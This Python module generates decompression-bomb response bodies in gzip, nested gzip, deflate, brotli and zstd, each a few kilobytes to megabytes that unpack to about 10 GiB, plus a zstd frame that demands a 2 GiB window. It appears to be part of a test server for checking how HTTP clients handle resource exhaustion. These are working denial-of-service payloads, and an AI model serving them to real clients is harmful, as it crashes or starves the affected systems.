"""Bodies that are small on the wire and huge when unpacked, made on the fly and never held whole."""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Callable, Iterator
from functools import cache

_MIB = 1 << 20
#: 160 times 64 MiB: 10 GiB.
_TIMES = 160
_UNIT = 64 * _MIB


@cache
def _zipped_zeros() -> bytes:
    return gzip.compress(bytes(_UNIT), 9)


def gzip_bomb() -> Iterator[bytes]:
    """10 GiB in 160 members; 10 MB on the wire."""
    for _ in range(_TIMES):
        yield _zipped_zeros()


def nested_gzip() -> Iterator[bytes]:
    """gzip in gzip in gzip of 640 MiB; 4 kB on the wire."""
    yield _nested()


@cache
def _nested() -> bytes:
    return gzip.compress(gzip.compress(_zipped_zeros() * 10))


@cache
def _deflated_zeros() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS)
    head = packer.compress(bytes(1)) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(_UNIT)) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + block * _TIMES


def deflate_bomb() -> Iterator[bytes]:
    """10 GiB of zeros; each block stands for itself, so one can be repeated."""
    yield _deflated_zeros()


def brotli_bomb() -> Iterator[bytes]:
    """10 GiB of zeros: from the second on, all flushed blocks of zeros look alike."""
    head, block = _brotli_blocks()
    yield head
    for _ in range(_TIMES):
        yield block


@cache
def _brotli_blocks() -> tuple[bytes, bytes]:
    import brotli

    packer = brotli.Compressor(quality=5)
    zeros = bytes(16 * _MIB)
    head = packer.process(zeros) + packer.flush() + packer.process(zeros) + packer.flush()
    block = b"".join(packer.process(zeros) + packer.flush() for _ in range(4))
    return head, block


_ZSTD_MAGIC = b"\x28\xb5\x2f\xfd"


def zstd_bomb() -> Iterator[bytes]:
    """10 GiB: 4 bytes for each block of 128 KiB that repeats one byte."""
    yield _ZSTD_MAGIC + b"\x00" + b"\x38"  # no checksum, no size; a window of 128 KiB
    block = (1 << 1 | (128 * 1024) << 3).to_bytes(3, "little") + b"\0"
    for _ in range(80):
        yield block * 1024


def zstd_window() -> Iterator[bytes]:
    """A frame that wants 2 GiB to be kept at hand."""
    yield _ZSTD_MAGIC + b"\x00" + b"\xa8" + (1 | 1 << 1 | 1000 << 3).to_bytes(3, "little") + b"\0"


def prepare() -> None:
    """Pack what is packed once, so that the web's clock does not stand still for it."""
    makers: tuple[Callable[[], object], ...] = (_zipped_zeros, _nested, _deflated_zeros, _brotli_blocks)
    for make in makers:
        make()


BOMBS = {
    "gzip-10g": ("gzip", gzip_bomb),
    "gzip-nested": ("gzip, gzip, gzip", nested_gzip),
    "deflate-bomb": ("deflate", deflate_bomb),
    "br-bomb": ("br", brotli_bomb),
    "zstd-bomb": ("zstd", zstd_bomb),
    "zstd-window": ("zstd", zstd_window),
}
